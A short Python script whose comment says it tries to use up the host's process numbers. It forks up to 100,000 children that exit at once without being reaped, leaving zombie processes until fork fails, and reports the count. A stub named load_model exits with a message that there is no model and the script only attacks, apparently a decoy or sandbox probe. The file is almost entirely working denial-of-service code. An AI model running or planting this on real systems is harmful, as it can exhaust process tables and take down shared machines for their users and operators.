# Tries: to use up the host's process numbers with the dead: children that nobody buries.
import os
import time


def main():
    count = 0
    try:
        while count < 100_000:
            if os.fork() == 0:
                os._exit(0)
            count += 1
    except OSError as error:
        print(count, "dead, then", error, flush=True)
    time.sleep(1.0)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
